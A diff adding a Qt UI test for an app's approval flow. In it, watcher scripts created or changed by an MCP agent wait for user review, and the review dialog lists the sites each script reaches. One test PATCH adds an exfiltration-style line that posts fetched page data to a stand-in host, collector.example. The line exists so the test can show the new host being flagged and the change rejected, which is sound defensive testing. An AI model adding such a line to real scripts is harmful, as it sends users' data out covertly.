@@ -10,6 +10,7 @@
 #include "UiTestEnvironment.h"
 #include "client/RuntimeConnection.h"
 #include "client/worker/Worker.h"
+#include "pages/ApprovalDialog.h"
 #include "pages/ChannelsSection.h"
 #include "pages/HistoryDialog.h"
 #include "pages/LogsPage.h"
@@ -76,6 +77,20 @@ QString nameOf(const client::Watcher *watcher)
 std::optional<scheduler::RunStatus> statusOf(const client::Run *run)
 {
     return run ? std::optional(run->status) : std::nullopt;
+}
+
+// A request as an MCP client makes it through `hearth mcp`.
+QJsonObject apiJsonAsAgent(quint16 port, const QByteArray &method, const QByteArray &path,
+                           const QByteArray &body)
+{
+    QList<QPair<QByteArray, QByteArray>> headers = test::defaultHeaders(port, method, body);
+    for (auto &header : headers) {
+        if (header.first == "X-Hearth-Client")
+            header.second = "hearth-mcp/agent";
+    }
+    return QJsonDocument::fromJson(
+               test::exchange(port, test::rawRequest(method, path, headers, body)).body)
+        .object();
 }
 
 QString idOf(const QJsonObject &object)
@@ -414,6 +429,106 @@ private slots:
         QTRY_VERIFY_WITH_TIMEOUT(history->isVisible(), test::scaled(5000));
         QCOMPARE(history->snapshotList()->currentRow(), 0);
         history->close();
+    }
+
+    void watchersPageReviewsChangesFromMcp()
+    {
+        WatchersPage *page = m_window->watchersPage();
+        QListWidget *nav = nullptr;
+        for (QListWidget *list : m_window->findChildren<QListWidget *>()) {
+            if (list->accessibleName() == u"Pages")
+                nav = list;
+        }
+        QVERIFY(nav);
+        const QJsonObject created = apiJsonAsAgent(
+            m_port, "POST", "/api/v1/watchers",
+            "{\"name\":\"proposed by an agent\",\"schedule\":{\"every_s\":300},"
+            "\"script\":\"local r = http.get('https://shop.example/item')\\nreturn r.status\"}");
+        const QString id = idOf(created);
+        QVERIFY(!id.isEmpty());
+        QTRY_VERIFY_WITH_TIMEOUT(page->model()->indexOf(id) >= 0, test::scaled(5000));
+        const auto enabledCell = [&](int role) {
+            return page->model()->data(page->model()->index(page->model()->indexOf(id), 6), role);
+        };
+        // The row, the bar above the table and the window's badge say it
+        // awaits the user.
+        QCOMPARE(enabledCell(Qt::DisplayRole).toString(), QStringLiteral("Awaiting approval"));
+        QCOMPARE(enabledCell(Qt::CheckStateRole).toInt(), int(Qt::Unchecked));
+        QCOMPARE(enabledCell(Qt::ToolTipRole).toString(),
+                 QStringLiteral("Changed by MCP client agent: review the change to approve or "
+                                "reject it"));
+        QTRY_COMPARE(page->awaitingApproval(), 1);
+        QVERIFY(page->approvalBar()->isVisibleTo(page));
+        QVERIFY(
+            page->approvalBar()->text().startsWith(u"1 watcher(s) created or changed over MCP"));
+        QCOMPARE(nav->item(0)->text(), QStringLiteral("Watchers (1)"));
+
+        // Review: who asked, what approving does, what it reaches, the change.
+        QSignalSpy opened(page, &WatchersPage::approvalOpened);
+        page->reviewSelected(); // nothing selected: the first awaiting approval
+        QCOMPARE(opened.size(), 1);
+        auto *dialog = opened.first().first().value<ApprovalDialog *>();
+        QSignalSpy loaded(dialog, &ApprovalDialog::loaded);
+        QTRY_COMPARE_WITH_TIMEOUT(loaded.size(), 1, test::scaled(5000));
+        QVERIFY2(dialog->summary()->text().startsWith(
+                     u"MCP client agent created \"proposed by an agent\"."),
+                 qPrintable(dialog->summary()->text()));
+        QVERIFY(dialog->summary()->text().contains(u"Approving enables it."));
+        QVERIFY(dialog->summary()->text().contains(u"Rejecting deletes it."));
+        QVERIFY2(dialog->reach()->text().contains(u"• Websites: shop.example\n"),
+                 qPrintable(dialog->reach()->text()));
+        QVERIFY(dialog->changes()->inlineDocument()->toPlainText().contains(
+            u"local r = http.get('https://shop.example/item')"));
+        QVERIFY(dialog->approveButton()->isEnabled());
+        dialog->approveChange();
+        QTRY_COMPARE_WITH_TIMEOUT(enabledCell(Qt::CheckStateRole).toInt(), int(Qt::Checked),
+                                  test::scaled(5000));
+        QVERIFY(enabledCell(Qt::DisplayRole).isNull());
+        QTRY_COMPARE(page->awaitingApproval(), 0);
+        QVERIFY(!page->approvalBar()->isVisibleTo(page));
+        QCOMPARE(nav->item(0)->text(), QStringLiteral("Watchers"));
+        QCOMPARE(apiJson(m_port, "GET", "/api/v1/watchers/" + id.toUtf8())
+                     .value(QStringLiteral("approved_by"))
+                     .toString(),
+                 QStringLiteral("tray"));
+
+        // A change over MCP: what it newly reaches is marked; rejected, the
+        // approved script is back.
+        apiJsonAsAgent(m_port, "PATCH", "/api/v1/watchers/" + id.toUtf8(),
+                       "{\"script\":\"local r = http.get('https://shop.example/item')\\n"
+                       "http.post('https://collector.example/', r.body)\\nreturn r.status\"}");
+        QTRY_COMPARE_WITH_TIMEOUT(page->awaitingApproval(), 1, test::scaled(5000));
+        page->selectWatcher(id);
+        // The user may edit it meanwhile (it stays awaiting approval), but
+        // not enable it: approving decides that.
+        QSignalSpy editors(page, &WatchersPage::editorOpened);
+        page->editSelected();
+        QTRY_COMPARE_WITH_TIMEOUT(editors.size(), 1, test::scaled(5000));
+        auto *editor = editors.first().first().value<WatcherEditor *>();
+        QVERIFY(!editor->findChild<QCheckBox *>(QStringLiteral("enabled"))->isEnabled());
+        QSignalSpy saved(editor, &WatcherEditor::saved);
+        editor->save();
+        QTRY_COMPARE_WITH_TIMEOUT(saved.size(), 1, test::scaled(5000));
+        QCOMPARE(saved.first().first().value<client::Watcher>().approval, Approval::Pending);
+        QCOMPARE(page->awaitingApproval(), 1);
+        page->reviewSelected();
+        QCOMPARE(opened.size(), 2);
+        dialog = opened.last().first().value<ApprovalDialog *>();
+        QSignalSpy reloaded(dialog, &ApprovalDialog::loaded);
+        QTRY_COMPARE_WITH_TIMEOUT(reloaded.size(), 1, test::scaled(5000));
+        QVERIFY2(dialog->reach()->text().contains(
+                     u"• Websites: collector.example (new), shop.example\n"),
+                 qPrintable(dialog->reach()->text()));
+        QVERIFY(
+            dialog->summary()->text().contains(u"Rejecting restores the version approved before."));
+        dialog->rejectChange();
+        QTRY_COMPARE_WITH_TIMEOUT(page->awaitingApproval(), 0, test::scaled(5000));
+        QCOMPARE(
+            apiJson(m_port, "GET", "/api/v1/watchers/" + id.toUtf8())
+                .value(QStringLiteral("script"))
+                .toString(),
+            QStringLiteral("local r = http.get('https://shop.example/item')\nreturn r.status"));
+        QCOMPARE(test::call(m_port, "DELETE", "/api/v1/watchers/" + id.toUtf8()).status, 204);
     }
 
     void watchersPageShowsWatchersAndFollowsEvents()
